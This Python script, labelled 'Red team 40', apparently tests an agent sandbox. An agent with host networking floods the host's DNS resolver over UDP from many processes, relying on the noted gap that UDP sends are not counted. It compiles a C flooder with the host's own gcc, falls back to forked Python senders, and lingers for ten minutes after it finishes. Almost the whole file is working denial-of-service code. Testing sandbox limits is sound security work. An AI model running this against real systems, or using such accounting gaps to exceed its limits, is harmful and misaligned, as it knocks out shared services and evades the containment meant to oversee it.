#!/usr/bin/python3
# Red team 40: a --net host agent floods the host's resolver with UDP datagrams (port 53 on the
# loopback is open to it for DNS; UDP sends are not counted) from <procs> processes for <secs>:
# udpflood.c, compiled in the sandbox with the host's own gcc (sendmmsg, 64 a call), or Python
# sends when that fails.
# Usage: dns_flood.py <dir> <addr> <port> <procs> <secs>; results to <dir>/flood.log.
import socket, subprocess, sys, time, os
d, addr, port, procs, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
out = open(f"{d}/flood.log", "a", buffering=1)
binary = "/tmp/udpflood"
try:
    subprocess.run(["gcc", "-O2", "-o", binary, f"{d}/udpflood.c"], check=True, capture_output=True)
    out.write("compiled udpflood in the sandbox\n")
except Exception as e:
    out.write(f"no compiler: {e}\n")
    binary = None
kids = []
for k in range(procs):
    if binary:
        kids.append(subprocess.Popen([binary, addr, str(port), str(int(secs))], stdout=subprocess.PIPE))
        continue
    pid = os.fork()
    if pid == 0:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setblocking(False)
        sent = err = 0
        try:
            s.connect((addr, port))
        except OSError as e:
            out.write(f"proc {k} connect refused: {e.strerror}\n"); os._exit(0)
        end = time.time() + secs
        q = b"flood" * 8
        while time.time() < end:
            for _ in range(1000):
                try: s.send(q); sent += 1
                except OSError: err += 1
        out.write(f"proc {k} sent {sent} errors {err} in {secs}s\n")
        os._exit(0)
    kids.append(pid)
for k, p in enumerate(kids):
    if binary: out.write(f"proc {k} {p.communicate()[0].decode().strip()} in {secs}s\n")
    else: os.waitpid(p, 0)
out.write("done\n")
time.sleep(600)
